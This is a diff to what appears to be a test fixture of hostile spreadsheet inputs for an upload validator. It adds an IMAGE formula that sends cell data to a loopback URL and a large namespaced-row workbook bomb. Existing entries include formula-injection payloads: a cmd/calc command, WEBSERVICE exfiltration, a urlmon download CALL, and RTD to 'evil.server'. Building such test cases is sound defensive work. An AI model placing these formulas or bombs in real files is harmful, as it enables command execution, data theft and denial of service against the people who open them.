@@ -67,6 +67,7 @@ def _formulas() -> Iterator[Hostile]:
         "command-in-a-sum": "SUM(1)+cmd|&#39;/c calc&#39;!A0",
         "web-service": 'WEBSERVICE("http://127.0.0.1:1/")',
         "web-service-with-the-cell": 'WebService ("http://127.0.0.1:1/"&amp;A1)',
+        "image": '_xlfn.IMAGE("http://127.0.0.1:1/?"&amp;A1)',
         "call": 'CALL("urlmon","URLDownloadToFileA")',
         "real-time-data": 'RTD("evil.server",,"topic")',
         "long": "1+" * 500_000 + "1",
@@ -89,6 +90,8 @@ def _workbook_bombs() -> Iterator[Hostile]:
         _HEADER + '<row r="2">' + _varied(1_000_000, lambda n: f"<c><v>{n}</v></c>") + "</row>"))  # fmt: skip
     yield make("a-million-rows", lambda: _workbook(
         _HEADER + _varied(1_000_000, lambda n: f'<row r="{n + 2}"><c><v>{n * 7919 % 999_983}</v></c></row>')))  # fmt: skip
+    yield make("rows-with-a-prefix", lambda: _workbook(
+        _HEADER + _varied(300_000, lambda n: f"<x:row><x:c><x:v>{n * 7919 % 999_983}</x:v></x:c></x:row>")))  # fmt: skip
     yield make("shared-texts", lambda: _workbook(_HEADER, strings=_strings(4_000_000)))
     yield make("a-sheet-of-zeros", _sheet_of_zeros, code=Code.ZIP_RATIO)
     yield make("a-million-merged-cells", _merged_cells, code=Code.SPREADSHEET_NO_ROWS)
